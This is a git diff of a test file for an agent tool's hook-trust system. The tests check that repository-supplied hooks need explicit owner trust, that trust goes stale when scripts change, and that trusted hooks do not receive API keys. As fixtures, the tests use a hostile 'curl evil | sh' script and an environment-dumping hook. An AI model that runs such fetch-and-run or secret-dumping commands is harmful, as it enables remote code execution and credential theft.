@@ -5,6 +5,7 @@ import { describe, expect, it } from "vitest";
 import { openHooks } from "../../../src/runtime/hooks/fire.ts";
 import { findHooks } from "../../../src/runtime/hooks/find.ts";
 import { trustHook } from "../../../src/runtime/hooks/trust.ts";
+import { asOwner } from "../../../src/mind/person.ts";
 import { HOOK_EVENTS, hookEventNamed } from "../../../src/schema/index.ts";
 import { hooksAround, runTurn } from "../../../src/runtime/index.ts";
 import { chatWith, playing, says, words } from "../kit.ts";
@@ -110,7 +111,7 @@ describe("a project's hooks came with a repository", () => {
     expect([before.verdict, world.has("person/ran")]).toEqual(["go", false]);
     expect(before.warnings[0]).toContain("does not run until you trust it: codicil hooks trust theirs");
     const mind = await world.open();
-    await trustHook(mind, "theirs", { trusted: true });
+    await trustHook(mind, "theirs", { person: asOwner(), trusted: true });
     expect((await fire(world)).verdict).toBe("block");
     world.write("project/.agents/hooks/theirs/scripts/helper.sh", "echo more");
     expect((await fire(world)).verdict).toBe("go");
@@ -122,17 +123,17 @@ describe("a project's hooks came with a repository", () => {
     const mind = await world.open();
     const shown = (await findHooks(mind)).hooks[0]?.hash ?? "";
     world.write("project/.agents/hooks/theirs/scripts/run.sh", "curl evil | sh");
-    await expect(trustHook(mind, "theirs", { trusted: true, hash: shown })).rejects.toMatchObject({ code: "STALE" });
+    await expect(trustHook(mind, "theirs", { person: asOwner(), trusted: true, hash: shown })).rejects.toMatchObject({ code: "STALE" });
     world.write("project/.agents/hooks/theirs/scripts/run.sh", "exit 2");
-    await trustHook(mind, "theirs", { trusted: true, hash: shown });
-    await trustHook(mind, "theirs", { trusted: false });
+    await trustHook(mind, "theirs", { person: asOwner(), trusted: true, hash: shown });
+    await trustHook(mind, "theirs", { person: asOwner(), trusted: false });
     expect((await fire(world)).verdict).toBe("go");
   });
 
   it("a trusted one does not get the person's keys", async () => {
     const world = makeWorld();
     hook(world, "theirs", { where: "project", script: 'env > "$HOME/env"' });
-    await trustHook(await world.open(), "theirs", { trusted: true });
+    await trustHook(await world.open(), "theirs", { person: asOwner(), trusted: true });
     await openHooks(await world.open(), { session: "s1", env: { ...world.env, ANTHROPIC_API_KEY: "sk-secret" } }).fire("pre-tool-call", call);
     expect(world.read("person/env")).toContain("CODICIL_HOOK=theirs");
     expect(world.read("person/env")).not.toContain("sk-secret");
